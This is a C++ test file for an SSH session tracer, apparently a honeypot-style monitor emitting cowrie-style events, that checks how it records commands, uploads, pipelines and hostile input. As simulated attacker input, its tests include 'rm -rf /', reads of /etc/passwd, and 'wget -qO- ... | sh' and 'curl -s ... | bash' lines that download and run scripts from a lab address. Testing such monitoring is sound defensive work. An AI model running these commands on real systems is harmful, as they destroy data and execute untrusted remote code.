// command before: it is kept as hvtrace.command.abandoned and in the transcript in its place.
TEST(SessionEngine, ALineDroppedWithCtrlCIsKeptApart) {
  Rig r;
  auto& [dir, t, g] = r;
  bash_at_prompt(g, 9, 40400);
  g.run(kConn, kMaster, kShell, 240, "ls", {"ls"}, "f.txt\r\n", 0);
  g.read(kConn, kMaster, "root@lab:~# ");
  for (const char c : std::string_view("rm -rf /")) g.type(kConn, kMaster, std::string(1, c), std::string(1, c));
  g.type(kConn, kMaster, "\x03", "^C\r\n");
  g.read(kConn, kMaster, "root@lab:~# ");
  g.type(kConn, kMaster, "\x03", "^C\r\n");   // on an empty line: nothing to keep
  g.read(kConn, kMaster, "root@lab:~# ");
  g.type(kConn, kMaster, "id\r", "id\r\n");
  g.exit(kShell, 0);
  g.exit(kConn, 0);
  const auto ev = jsonl(dir.path() / t.session_ids()[0] / "events.jsonl");
  const auto dropped = by_id(ev, "hvtrace.command.abandoned");
  ASSERT_EQ(dropped.size(), 1u);
  EXPECT_EQ(dropped[0]["input"], "rm -rf /");
  std::vector<std::string> commands;
  for (const auto& e : by_id(ev, "cowrie.command.input")) commands.push_back(e["input"]);
  EXPECT_EQ(commands, (std::vector<std::string>{"ls", "id"}));
  const std::string tr = slurp(dir.path() / t.session_ids()[0] / "transcript.txt");
  EXPECT_NE(tr.find("$ ls\nf.txt\n[exit 0]\n\n"), std::string::npos) << tr;
  EXPECT_NE(tr.find("$ rm -rf /  [dropped with Ctrl-C]\n"), std::string::npos) << tr;
  EXPECT_EQ(tr.find("^C"), std::string::npos) << "the prompt rows with ^C are not output\n" << tr;
}

// What is held for announced children is bounded: calls per child and bytes overall (a child
// stopped between its fork and its parent's return can write without end); the rest is counted.
TEST(SessionEngine, CallsHeldForAnnouncedChildrenAreBounded) {
  Rig r;
  auto& [dir, t, g] = r;
  bash_at_prompt(g, 10, 40500);
  t.on_fork(250, kShell);
  for (int i = 0; i < 300; ++i) g.write(250, 1, "x");
  EXPECT_EQ(t.stats().early_calls_dropped, 300u - 256u);
  const std::string mib(1u << 20, 'y');
  t.on_fork(251, kShell);
  for (int i = 0; i < 20; ++i) g.write(251, 1, mib);
  EXPECT_GE(t.stats().early_calls_dropped, 300u - 256u + 4u) << "at most 16 MiB held";
  EXPECT_LE(t.stats().early_calls_dropped, 300u - 256u + 5u);
  g.fork(kShell, 251);   // its return: what was held is applied, and frees the budget
  t.on_fork(252, kShell);
  g.write(252, 1, mib);
  EXPECT_LE(t.stats().early_calls_dropped, 300u - 256u + 5u);
}

TEST(SessionEngine, CommandWithoutPtyAndSftpUpload) {
  Rig r;
  auto& [dir, t, g] = r;
  g.accept(kServer, kSock, sockaddr_in(192, 168, 1, 9, 40000));
  g.fork(kServer, 300);
  g.pipe(300, 5, 6);   // dropbear's signal pipe, before login: not the command's
  t.on_credential(300, Credential::kUser, "alice", g.now);
  t.on_credential(300, Credential::kPassword, "secret", g.now);
  g.pipe(300, 7, 8);   // stdin
  g.pipe(300, 9, 10);  // stdout
  g.fork(300, 301);
  g.exec(301, "/bin/sh", {"sh", "-c", "/usr/lib/sftp-server"});
  g.exec(301, "/usr/lib/sftp-server", {"/usr/lib/sftp-server"});
  g.read(300, 5, "x");   // a signal byte: no output
  std::string payload;
  for (int i = 0; i < 4; ++i)
    for (int b = 0; b < 256; ++b) payload.push_back(static_cast<char>(b));
  g.open(301, "/tmp/up.bin", kCreateFlags, 5);
  g.write(301, 5, payload.substr(0, 600));
  g.write(301, 5, payload.substr(600));
  g.close(301, 5);
  g.read(300, 9, "sftp reply");
  g.exit(301, 0);
  g.exit(300, 0);

  ASSERT_EQ(t.session_ids().size(), 1u);
  const fs::path sdir = dir.path() / t.session_ids()[0];
  const auto ev = jsonl(sdir / "events.jsonl");
  expect_login(ev, "cowrie.login.success", "alice", "secret");
  const auto in = by_id(ev, "cowrie.command.input");
  ASSERT_EQ(in.size(), 1u);
  EXPECT_EQ(in[0]["input"], "/usr/lib/sftp-server");
  const auto up = by_id(ev, "cowrie.session.file_upload");
  ASSERT_EQ(up.size(), 1u);
  EXPECT_EQ(up[0]["filename"], "up.bin");
  EXPECT_EQ(up[0]["destfile"], "/tmp/up.bin");
  EXPECT_EQ(up[0]["shasum"], "785b0751fc2c53dc14a4ce3d800e69ef9ce1009eb327ccf458afe09c242c26c9");
  EXPECT_EQ(slurp(up[0]["outfile"].get<std::string>()), payload);
  EXPECT_EQ(by_id(ev, "cowrie.session.closed").at(0)["ended"], "logout");
  const auto cast = jsonl(sdir / "session.cast");
  EXPECT_EQ(cast_output(cast), "sftp reply");
  const std::string tr = slurp(sdir / "transcript.txt");
  EXPECT_NE(tr.find("$ /usr/lib/sftp-server\n"), std::string::npos) << tr;
  EXPECT_NE(tr.find("\nsftp reply\n[exit 0]\n"), std::string::npos) << tr;
}

TEST(SessionEngine, TwoInterleavedSessionsStayApart) {
  Rig r;
  auto& [dir, t, g] = r;
  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 1, 1111));
  g.fork(kServer, 400);
  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 2, 2222));
  g.fork(kServer, 500);
  t.on_credential(400, Credential::kUser, "one", g.now);
  t.on_credential(500, Credential::kUser, "two", g.now);
  t.on_credential(400, Credential::kPassword, "p1", g.now);
  t.on_credential(500, Credential::kPassword, "p2", g.now);
  g.open(400, "/dev/ptmx", 2, 7);
  g.open(500, "/dev/ptmx", 2, 9);
  g.fork(400, 401);
  g.fork(500, 501);
  g.exec(401, "/bin/sh", {"-sh"});
  g.exec(501, "/bin/sh", {"-sh"});
  // keystrokes interleaved one by one
  const std::string a = "echo first\r", b = "echo second\r";
  for (std::size_t i = 0; i < std::max(a.size(), b.size()); ++i) {
    if (i < a.size()) g.type(400, 7, a.substr(i, 1), a.substr(i, 1));
    if (i < b.size()) g.type(500, 9, b.substr(i, 1), b.substr(i, 1));
  }
  g.read(400, 7, "\nfirst\r\n");
  g.read(500, 9, "\nsecond\r\n");
  g.exit(401, 0);
  g.exit(400, 0);
  t.finish(g.now);

  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 2u);
  EXPECT_NE(ids[0], ids[1]);
  const auto e1 = jsonl(dir.path() / ids[0] / "events.jsonl");
  const auto e2 = jsonl(dir.path() / ids[1] / "events.jsonl");
  EXPECT_EQ(e1.front()["src_ip"], "10.0.0.1");
  EXPECT_EQ(e2.front()["src_ip"], "10.0.0.2");
  EXPECT_EQ(by_id(e1, "cowrie.command.input").at(0)["input"], "echo first");
  EXPECT_EQ(by_id(e2, "cowrie.command.input").at(0)["input"], "echo second");
  EXPECT_EQ(by_id(e1, "cowrie.login.success").at(0)["password"], "p1");
  EXPECT_EQ(by_id(e2, "cowrie.login.success").at(0)["password"], "p2");
  EXPECT_EQ(by_id(e1, "cowrie.session.closed").at(0)["ended"], "logout");
  // the second was still open at finish: closed with what it had, its shell listed
  EXPECT_EQ(by_id(e2, "cowrie.session.closed").at(0)["ended"], "watch_ended");
  const auto still = by_id(e2, "hvtrace.session.still_running");
  ASSERT_EQ(still.size(), 1u);
  EXPECT_EQ(still[0]["processes"].at(0)["pid"], 501);
  const std::string t1 = slurp(dir.path() / ids[0] / "transcript.txt");
  const std::string t2 = slurp(dir.path() / ids[1] / "transcript.txt");
  EXPECT_EQ(t1.find("second"), std::string::npos);
  EXPECT_EQ(t2.find("first"), std::string::npos);
}

TEST(SessionEngine, HooksSeeEveryEventAsWrittenAndEachSessionOnceWhenItCloses) {
  // What a publisher relies on: on_event gets the very objects of events.jsonl, in file order, and
  // on_closed comes once per session, after its last event, with the finished files in place.
  std::vector<nlohmann::json> seen;
  std::vector<std::pair<std::string, fs::path>> closed;
  std::vector<std::size_t> events_at_close;
  TrackerConfig cfg;
  cfg.on_event = [&](const nlohmann::json& j) { seen.push_back(j); };
  cfg.on_closed = [&](const std::string& sid, const fs::path& d) {
    closed.emplace_back(sid, d);
    events_at_close.push_back(seen.size());
    EXPECT_TRUE(fs::exists(d / "transcript.txt"));
    EXPECT_NE(slurp(d / "transcript.txt").find("session closed"), std::string::npos);
  };
  Rig r(cfg);
  auto& [dir, t, g] = r;
  scripted_session(g, t);
  ASSERT_EQ(closed.size(), 1u);
  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 1u);
  EXPECT_EQ(closed[0].first, ids[0]);
  EXPECT_EQ(closed[0].second, dir.path() / ids[0]);
  const auto ev = jsonl(dir.path() / ids[0] / "events.jsonl");
  ASSERT_EQ(seen.size(), ev.size());
  for (std::size_t i = 0; i < ev.size(); ++i) EXPECT_EQ(seen[i], ev[i]) << i;
  EXPECT_EQ(events_at_close[0], ev.size());
  EXPECT_EQ(seen.back()["eventid"], "cowrie.session.closed");
  t.finish(g.now);
  EXPECT_EQ(closed.size(), 1u);   // not again at the end of the watch
}

TEST(SessionEngine, ClientGoneBeforeLogoutIsDroppedAndWrongPasswordsAreFailed) {
  Rig r;
  auto& [dir, t, g] = r;
  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 3, 3333));
  g.fork(kServer, 600);
  t.on_credential(600, Credential::kUser, "admin", g.now);
  t.on_credential(600, Credential::kPassword, "123456", g.now);
  t.on_credential(600, Credential::kPassword, "admin", g.now);
  g.call(600, "read", {kSock, 0x1000, 100}, 0);
  g.exit(600, 255);
  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 4, 4444));
  g.fork(kServer, 700);
  t.on_credential(700, Credential::kUser, "root", g.now);
  t.on_credential(700, Credential::kPassword, "root", g.now);
  g.open(700, "/dev/ptmx", 2, 7);
  g.fork(700, 701);
  g.exec(701, "/bin/sh", {"-sh"});
  g.type(700, 7, "sleep 100", "sleep 100");   // typed, never entered
  g.call(700, "read", {kSock, 0x1000, 100}, -104);   // ECONNRESET: the client was killed
  g.exit(700, 0);
  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 5, 5555));
  g.fork(kServer, 800);
  g.call(kServer, "wait4", {static_cast<std::uint64_t>(-1), 0, 1, 0}, 800);   // reaped, no exit seen: killed

  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 3u);
  const auto e1 = jsonl(dir.path() / ids[0] / "events.jsonl");
  const auto f = by_id(e1, "cowrie.login.failed");
  ASSERT_EQ(f.size(), 2u);
  EXPECT_EQ(f[0]["password"], "123456");
  EXPECT_EQ(f[1]["password"], "admin");
  EXPECT_TRUE(by_id(e1, "cowrie.login.success").empty());
  EXPECT_EQ(by_id(e1, "cowrie.session.closed").at(0)["ended"], "dropped");
  const auto e2 = jsonl(dir.path() / ids[1] / "events.jsonl");
  EXPECT_EQ(by_id(e2, "cowrie.session.closed").at(0)["ended"], "dropped");
  EXPECT_EQ(by_id(e2, "hvtrace.command.unfinished").at(0)["input"], "sleep 100");
  EXPECT_EQ(by_id(e2, "hvtrace.session.still_running").at(0)["processes"].at(0)["pid"], 701);
  const auto e3 = jsonl(dir.path() / ids[2] / "events.jsonl");
  EXPECT_EQ(by_id(e3, "cowrie.session.closed").at(0)["ended"], "killed");
  EXPECT_EQ(t.stats().open, 0u);
}

// A here-document and an open quote: the lines the shell reads at its secondary prompt "> " belong
// to the command being entered (it starts nothing until the command is complete), so they are
// continuation events, not commands; a line at "> " once the command runs a program is input to
// that program's own prompt, recorded as the line it is, as before.
TEST(SessionEngine, LinesAtTheSecondaryPromptContinueTheCommand) {
  Rig r;
  auto& [dir, t, g] = r;
  bash_at_prompt(g, 7, 7777);
  g.type(kConn, kMaster, "cat > /tmp/x.sh <<EOF\r", "cat > /tmp/x.sh <<EOF\r\n");
  g.read(kConn, kMaster, "> ");
  g.type(kConn, kMaster, "wget http://10.0.2.100/x\r", "wget http://10.0.2.100/x\r\n");
  g.read(kConn, kMaster, "> ");
  // The end word: bash forks cat at once, seen before the Enter key's write returns.
  const std::uint64_t enter = g.now;
  g.fork(kShell, 300);
  g.next_entry_ns = enter;
  g.type(kConn, kMaster, "EOF\r", "EOF\r\n");
  g.exec(300, "/bin/cat", {"cat"});
  g.exit(300, 0);
  g.read(kConn, kMaster, "root@lab:~# ");
  g.type(kConn, kMaster, "echo 'a\r", "echo 'a\r\n");
  g.read(kConn, kMaster, "> ");
  g.type(kConn, kMaster, "b'\r", "b'\r\n");
  g.read(kConn, kMaster, "a\r\nb\r\nroot@lab:~# ");
  g.type(kConn, kMaster, "python3\r", "python3\r\n");
  g.fork(kShell, 301);
  g.exec(301, "/usr/bin/python3", {"python3"});
  g.read(kConn, kMaster, "> ");
  g.type(kConn, kMaster, "print(1)\r", "print(1)\r\n");
  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 1u);
  const auto ev = jsonl(dir.path() / ids[0] / "events.jsonl");
  std::vector<std::string> cmds, cont;
  for (const auto& e : by_id(ev, "cowrie.command.input")) cmds.push_back(e["input"]);
  for (const auto& e : by_id(ev, "hvtrace.command.continuation")) cont.push_back(e["input"]);
  const std::vector<std::string> want_cmds = {"cat > /tmp/x.sh <<EOF", "echo 'a", "python3", "print(1)"};
  const std::vector<std::string> want_cont = {"wget http://10.0.2.100/x", "EOF", "b'"};
  EXPECT_EQ(cmds, want_cmds);
  EXPECT_EQ(cont, want_cont);
  const std::string tr = slurp(dir.path() / ids[0] / "transcript.txt");
  EXPECT_NE(tr.find("$ cat > /tmp/x.sh <<EOF\n"), std::string::npos) << tr;
  EXPECT_NE(tr.find("> wget http://10.0.2.100/x\n"), std::string::npos) << tr;
  EXPECT_EQ(tr.find("$ wget"), std::string::npos) << "a here-document's line shown as a command:\n" << tr;
  EXPECT_NE(tr.find("> EOF\n[exit 0]"), std::string::npos) << "the forked cat is the heredoc command's:\n" << tr;
}

// A pipeline's two forks, both seen before its Enter key's write returns (one vCPU: bash read the
// key and started both programs first): the previous command keeps the status of its own child,
// and the pipeline gets its last program's. (Command 1 showed the earlier command as still running.)
TEST(SessionEngine, APipelineForkedBeforeItsEnterReturnsLeavesThePreviousCommandItsStatus) {
  Rig r;
  auto& [dir, t, g] = r;
  bash_at_prompt(g, 8, 8888);
  std::uint64_t enter = g.now;
  g.fork(kShell, 400);
  g.next_entry_ns = enter;
  g.type(kConn, kMaster, "sha256sum /tmp/upload.txt\r", "sha256sum /tmp/upload.txt\r\n");
  g.exec(400, "/usr/bin/sha256sum", {"sha256sum", "/tmp/upload.txt"});
  g.exit(400, 0);
  g.read(kConn, kMaster, "root@lab:~# ");
  enter = g.now;
  g.fork(kShell, 401);
  g.fork(kShell, 402);
  g.next_entry_ns = enter;
  g.type(kConn, kMaster, "cat /etc/passwd | grep root\r", "cat /etc/passwd | grep root\r\n");
  g.exec(401, "/bin/cat", {"cat", "/etc/passwd"});
  g.exec(402, "/bin/grep", {"grep", "root"});
  g.exit(401, 0);
  g.exit(402, 1);
  g.read(kConn, kMaster, "root@lab:~# ");
  g.type(kConn, kMaster, "exit\r", "exit\r\n");
  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 1u);
  const std::string tr = slurp(dir.path() / ids[0] / "transcript.txt");
  EXPECT_NE(tr.find("$ sha256sum /tmp/upload.txt\n[exit 0]"), std::string::npos) << tr;
  EXPECT_NE(tr.find("$ cat /etc/passwd | grep root\n[exit 1]"), std::string::npos) << tr;
  EXPECT_EQ(tr.find("still running"), std::string::npos) << tr;
}

// `exit` typed to bash: on one vCPU bash reads the line and writes ~/.bash_history before the
// server's write of the Enter key returns and before the server reads the echo. The file belongs
// under `exit` in the transcript, not under the command before it; a key that ends no line holds
// nothing back.
TEST(SessionEngine, WhatTheShellDoesBeforeItsEnterKeyReturnsIsWrittenUnderThatLine) {
  Rig r;
  auto& [dir, t, g] = r;
  bash_at_prompt(g, 9, 9999);
  g.run(kConn, kMaster, kShell, 500, "id", {"id"}, "uid=0(root)\r\n", 0);
  // A key in the middle of a line: a file the shell writes meanwhile is not held.
  g.entry(kConn, "write", {kMaster, 0x4000, 1}, {cap(1, CaptureKind::kBuffer, "e")});
  g.open(kShell, "/tmp/early", kCreateFlags, 5);
  g.write(kShell, 5, "x");
  g.close(kShell, 5);
  g.type(kConn, kMaster, "exi", "exi");
  g.type(kConn, kMaster, "t", "t");
  const std::uint64_t enter = g.now;
  g.entry(kConn, "write", {kMaster, 0x4000, 1}, {cap(1, CaptureKind::kBuffer, "\r")});
  g.open(kShell, "/root/.bash_history", kCreateFlags, 5);
  g.write(kShell, 5, "id\nexit\n");
  g.close(kShell, 5);
  g.next_entry_ns = enter;   // the same call, completed
  g.write(kConn, kMaster, "\r");
  g.read(kConn, kMaster, "\r\nlogout\r\n");
  g.exit(kShell, 0);
  g.exit(kConn, 0);
  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 1u);
  const std::string tr = slurp(dir.path() / ids[0] / "transcript.txt");
  const auto id_at = tr.find("$ id\n"), early = tr.find("wrote /tmp/early"), exit_at = tr.find("$ exit\n"),
             hist = tr.find("wrote /root/.bash_history");
  ASSERT_NE(id_at, std::string::npos) << tr;
  ASSERT_NE(early, std::string::npos) << tr;
  ASSERT_NE(exit_at, std::string::npos) << tr;
  ASSERT_NE(hist, std::string::npos) << tr;
  EXPECT_LT(id_at, early) << tr;
  EXPECT_LT(early, exit_at) << tr;
  EXPECT_LT(exit_at, hist) << tr;
  EXPECT_LT(tr.find("logout"), hist) << "bash printed logout before it saved its history\n" << tr;
  // The line is timed by its Enter key as it was written, before what the shell did with it.
  const auto ev = jsonl(dir.path() / ids[0] / "events.jsonl");
  const auto in = by_id(ev, "cowrie.command.input");
  ASSERT_EQ(in.size(), 2u);
  EXPECT_EQ(in[1]["input"], "exit");
  for (const auto& w : by_id(ev, "hvtrace.file.write")) {
    if (w["path"] == "/root/.bash_history") {
      EXPECT_LT(in[1]["timestamp"].get<std::string>(), w["timestamp"].get<std::string>());
    }
  }
}

// The Enter key's write into the terminal whose return was never delivered (the monitor's table of
// open calls was full; the tracer completes it, return value unknown, at the thread's next call):
// the key captured at entry still enters the line. A builtin such as `exit` runs no program, so
// nothing else would tell the line was entered.
TEST(SessionEngine, AKeyWhoseWriteNeverReturnedStillEntersTheLine) {
  Rig r;
  auto& [dir, t, g] = r;
  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 6, 6666));
  g.fork(kServer, 900);
  g.open(900, "/dev/ptmx", 2, 7);
  g.fork(900, 901);
  g.exec(901, "/bin/bash", {"-bash"});
  g.read(900, 7, "~ # ");
  g.type(900, 7, "exi", "exi");
  g.type(900, 7, "t", "t");
  g.call(900, "write", {7, 0x4000, 1}, std::nullopt, {cap(1, CaptureKind::kBuffer, "\r")});   // no return seen
  g.read(900, 7, "\r\nlogout\r\n");
  g.call(900, "write", {7, 0x4000, 1}, std::nullopt, {cap(1, CaptureKind::kBuffer, "\r", abi::kCaptureFault)});   // unread: not a key
  g.exit(901, 0);
  g.exit(900, 0);
  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 1u);
  const auto ev = jsonl(dir.path() / ids[0] / "events.jsonl");
  const auto in = by_id(ev, "cowrie.command.input");
  ASSERT_EQ(in.size(), 1u);
  EXPECT_EQ(in[0]["input"], "exit");
  EXPECT_TRUE(by_id(ev, "hvtrace.command.unfinished").empty());
}

// A login running before the watch (picked up from the process list): the connection process's
// fds were opened before it, so which one is the client's socket and which the pty master is not
// known. Its reads are not terminal output (the socket's are ciphertext); its processes are kept.
TEST(SessionEngine, PickedUpSessionKeepsProcessesNotUnknownReads) {
  Rig r;
  auto& [dir, t, g] = r;
  t.add_existing(kConn, kServer, "dropbear", g.now);
  t.add_existing(kShell, kConn, "bash", g.now);
  g.read(kConn, kSock, "\x17\x03\x03\xde\xad ciphertext");   // the client's socket
  g.fork(kShell, 300);
  g.exec(300, "/bin/echo", {"/bin/echo", "picked-42"});
  g.read(kConn, kMaster, "picked-42\r\n");   // the pty master
  g.exit(300, 0);
  g.exit(kShell, 0);
  g.exit(kConn, 0);

  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 1u);
  const auto ev = jsonl(dir.path() / ids[0] / "events.jsonl");
  EXPECT_TRUE(by_id(ev, "cowrie.session.connect").at(0)["picked_up"].get<bool>());
  EXPECT_EQ(by_id(ev, "hvtrace.process.exec").at(0)["argv"], json::array({"/bin/echo", "picked-42"}));
  EXPECT_EQ(by_id(ev, "cowrie.session.closed").at(0)["ended"], "logout");
  EXPECT_EQ(slurp(dir.path() / ids[0] / "transcript.txt").find("ciphertext"), std::string::npos);
  const fs::path cast = dir.path() / ids[0] / "session.cast";
  EXPECT_TRUE(!fs::exists(cast) || cast_output(jsonl(cast)).empty()) << slurp(cast);
}

// The same session picked up with its open files (read from the guest's fd tables): the pty
// master is its terminal from now on, the client's socket gives the connect event its address,
// and the socket's ciphertext is still not output.
TEST(SessionEngine, PickedUpSessionWithItsFdsRecordsTheTerminalAndTheClient) {
  Rig r;
  auto& [dir, t, g] = r;
  using K = ExistingFd::Kind;
  t.add_existing(kConn, kServer, "dropbear", g.now,
                 {{kSock, K::kSocket, 0, decode_sockaddr(sockaddr_in(10, 0, 2, 15, 22)), decode_sockaddr(sockaddr_in(10, 0, 2, 2, 51234))},
                  {kMaster, K::kPtyMaster}});
  t.add_existing(kShell, kConn, "bash", g.now, {}, 0);   // its shell runs as uid 0
  g.read(kConn, kSock, "\x17\x03\x03\xde\xad ciphertext");
  g.write(kConn, kMaster, "/bin/echo picked-42\r");
  g.read(kConn, kMaster, "/bin/echo picked-42\r\n");
  g.fork(kShell, 300);
  g.exec(300, "/bin/echo", {"/bin/echo", "picked-42"});
  g.read(kConn, kMaster, "picked-42\r\n");
  g.exit(300, 0);
  g.exit(kShell, 0);
  g.exit(kConn, 0);

  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 1u);
  const auto ev = jsonl(dir.path() / ids[0] / "events.jsonl");
  const auto connect = by_id(ev, "cowrie.session.connect").at(0);
  EXPECT_TRUE(connect["picked_up"].get<bool>());
  EXPECT_EQ(connect["src_ip"], "10.0.2.2");
  EXPECT_EQ(connect["src_port"], 51234);
  EXPECT_EQ(connect["dst_ip"], "10.0.2.15");
  EXPECT_EQ(by_id(ev, "cowrie.command.input").at(0)["input"], "/bin/echo picked-42");
  const std::string transcript = slurp(dir.path() / ids[0] / "transcript.txt");
  EXPECT_NE(transcript.find("picked-42\n"), std::string::npos) << transcript;
  EXPECT_NE(transcript.find("root@10.0.2.2:51234 $ /bin/echo picked-42"), std::string::npos) << "the user from the shell's uid\n"
                                                                                          << transcript;
  EXPECT_EQ(transcript.find("ciphertext"), std::string::npos) << transcript;
  const auto cast = jsonl(dir.path() / ids[0] / "session.cast");
  EXPECT_NE(cast_output(cast).find("picked-42\r\n"), std::string::npos);
  EXPECT_EQ(cast_output(cast).find("ciphertext"), std::string::npos);
}

// A command run without a pty (ssh host cmd), picked up: the pipes on the child's stdout carry
// its output to the connection process.
TEST(SessionEngine, PickedUpCommandWithoutPtyReadsItsPipes) {
  Rig r;
  auto& [dir, t, g] = r;
  using K = ExistingFd::Kind;
  t.add_existing(kConn, kServer, "dropbear", g.now,
                 {{kSock, K::kSocket, 0, std::nullopt, decode_sockaddr(sockaddr_in(10, 0, 2, 2, 40000))}, {9, K::kPipeRead, 0xffff8881000}});
  t.add_existing(kShell, kConn, "sh", g.now, {{1, K::kPipeWrite, 0xffff8881000}, {2, K::kPipeWrite, 0xffff8881000}});
  g.read(kConn, 9, "piped output\n");
  g.exit(kShell, 0);
  g.exit(kConn, 0);
  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 1u);
  EXPECT_NE(slurp(dir.path() / ids[0] / "transcript.txt").find("piped output"), std::string::npos)
      << slurp(dir.path() / ids[0] / "transcript.txt");
}

TEST(SessionEngine, HostileInputIsBoundedAndMarked) {
  TrackerConfig cfg;
  cfg.max_line_bytes = 4096;
  cfg.max_output_bytes = 64 << 10;
  cfg.max_file_bytes = 1000;
  cfg.max_processes = 16;
  Rig r(cfg);
  auto& [dir, t, g] = r;
  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 6, 6666));
  g.fork(kServer, kConn);
  t.on_credential(kConn, Credential::kPassword, "x", g.now);
  g.open(kConn, "/dev/ptmx", 2, kMaster);
  g.fork(kConn, kShell);
  g.exec(kShell, "/bin/sh", {"-sh"});
  // binary output, and a euro sign split across two reads
  std::string binary;
  for (int i = 0; i < 4096; ++i) binary.push_back(static_cast<char>((i * 37) & 0xff));
  g.read(kConn, kMaster, "price: \xE2\x82");
  g.read(kConn, kMaster, "\xAC\r\n");
  g.read(kConn, kMaster, binary);
  // a 1 MiB command line, typed in 64 KiB pieces
  const std::string chunk(64 << 10, 'A');
  for (int i = 0; i < 16; ++i) g.write(kConn, kMaster, chunk);
  g.write(kConn, kMaster, "\r");
  // a fork storm
  for (std::uint32_t i = 0; i < 100; ++i) g.fork(kShell, 1000 + i);
  // a very long argv
  std::vector<std::string> argv{"x"};
  for (int i = 0; i < 64; ++i) argv.push_back(std::string(200, 'b'));
  g.exec(1000, "/tmp/x", argv);
  // a file bigger than the file cap, and a write whose capture was cut by the snap length
  g.open(1001, "/tmp/big", kCreateFlags, 3);
  g.write(1001, 3, std::string(800, 'y'));
  g.write(1001, 3, std::string(800, 'z'));
  g.call(1001, "write", {3, 0x4000, 4096}, 4096, {cap(1, CaptureKind::kBuffer, std::string(256, 'q'), abi::kCaptureTruncated, 4096)});
  g.close(1001, 3);
  // more output than the terminal cap
  for (int i = 0; i < 40; ++i) g.read(kConn, kMaster, std::string(4096, 'o'));
  t.finish(g.now);

  const auto st = t.stats();
  EXPECT_GT(st.truncated_bytes, 0u);
  EXPECT_EQ(st.processes_not_kept, 100u - 14u);   // 16 at once: connection, shell, 14 children
  const fs::path sdir = dir.path() / t.session_ids().at(0);
  const auto ev = jsonl(sdir / "events.jsonl");
  const auto in = by_id(ev, "cowrie.command.input");
  ASSERT_EQ(in.size(), 1u);
  EXPECT_EQ(in[0]["input"].get<std::string>().size(), 4096u);
  EXPECT_EQ(in[0]["truncated"], true);
  const auto ex = by_id(ev, "hvtrace.process.exec");
  ASSERT_EQ(ex.size(), 2u);
  EXPECT_EQ(ex[1]["argv_truncated"], true);
  const auto w = by_id(ev, "hvtrace.file.write");
  ASSERT_EQ(w.size(), 1u);
  EXPECT_EQ(w[0]["size"], 800 + 800 + 4096);
  EXPECT_EQ(w[0]["complete"], false);
  EXPECT_EQ(w[0]["kept"], "partial");
  EXPECT_EQ(w[0]["kept_bytes"], 1000);
  EXPECT_EQ(fs::file_size(w[0]["outfile"].get<std::string>()), 1000u);
  bool limits[2] = {false, false};
  for (const auto& e : by_id(ev, "hvtrace.limit")) {
    if (e["limit"] == "max_processes") limits[0] = true;
    if (e["limit"] == "max_output_bytes") limits[1] = true;
  }
  EXPECT_TRUE(limits[0]);
  EXPECT_TRUE(limits[1]);
  EXPECT_GT(by_id(ev, "cowrie.session.closed").at(0)["truncated_bytes"].get<std::uint64_t>(), 0u);
  // the cast stays valid JSON and UTF-8, the split character whole, the cap marked
  const auto cast = jsonl(sdir / "session.cast");
  const std::string out = cast_output(cast);
  EXPECT_NE(out.find("price: \xE2\x82\xAC"), std::string::npos);
  EXPECT_NE(out.find("[hvtrace: terminal cap of"), std::string::npos);
  EXPECT_LT(fs::file_size(sdir / "session.cast"), 400u << 10);
  EXPECT_LT(fs::file_size(sdir / "transcript.txt"), 200u << 10);
}

// What real attackers do that the keys alone do not show: a tab-completed command whose echo
// comes after the shell already forked it, `wget -qO- URL | sh` (a download never written to a
// file), and files written with writev, or copied inside the kernel (cp's sendfile).
TEST(SessionEngine, TabCompletionPipedDownloadAndKernelCopies) {
  Rig r;
  auto& [dir, t, g] = r;
  root_logs_in(g, t, sockaddr_in(10, 0, 2, 2, 40000));
  const std::string prompt = "\x1b[?2004hroot@hvtrace-guest:~# ";
  g.read(kConn, kMaster, prompt);
  // cat /etc/pas<TAB><Enter> typed in one write; bash forks cat before the server reads the echo.
  g.type(kConn, kMaster, "cat /etc/pas", "cat /etc/pas");
  g.write(kConn, kMaster, "\t\r");
  g.fork(kShell, 300);
  g.exec(300, "/bin/cat", {"cat", "/etc/passwd"});
  g.read(kConn, kMaster, "swd \r\n\x1b[?2004l\rroot:x:0:0:root:/root:/bin/bash\r\n");
  g.exit(300, 0);
  g.read(kConn, kMaster, prompt);
  // wget -qO- URL | sh, the URL's name completed by TAB: the shell's pipe, the downloader's stdout
  // on its write end, sh's stdin on its read end.
  const std::string script = "#!/bin/sh\necho piped-script-ran\n";
  g.type(kConn, kMaster, "wget -qO- http://10.0.2.100/s.s", "wget -qO- http://10.0.2.100/s.s");
  g.type(kConn, kMaster, "\t", "h ");
  g.type(kConn, kMaster, "| sh", "| sh");
  g.type(kConn, kMaster, "\r", "\r\n\x1b[?2004l\r");
  g.pipe(kShell, 3, 4);
  g.fork(kShell, 301);
  g.fork(kShell, 302);
  g.call(301, "dup2", {4, 1}, 1);
  g.close(301, 3);
  g.close(301, 4);
  g.exec(301, "/usr/bin/wget", {"wget", "-qO-", "http://10.0.2.100/s.sh"});
  g.call(302, "dup2", {3, 0}, 0);
  g.close(302, 3);
  g.close(302, 4);
  g.exec(302, "/bin/sh", {"sh"});
  g.close(kShell, 3);
  g.close(kShell, 4);
  g.write(301, 1, script.substr(0, 10));
  g.write(301, 1, script.substr(10));
  g.read(302, 0, script);
  g.read(kConn, kMaster, "piped-script-ran\r\n");
  g.exit(302, 0);   // the reader's end may be seen before the writer's
  g.exit(301, 0);
  g.read(kConn, kMaster, prompt);
  // curl -s URL | bash the same way; curl --version | head is no download (no URL).
  for (const auto& [argv, reader, pid] : {std::tuple{std::vector<std::string>{"curl", "-s", "http://10.0.2.100/c.sh"}, "bash", 310u},
                                          std::tuple{std::vector<std::string>{"curl", "--version"}, "head", 320u}}) {
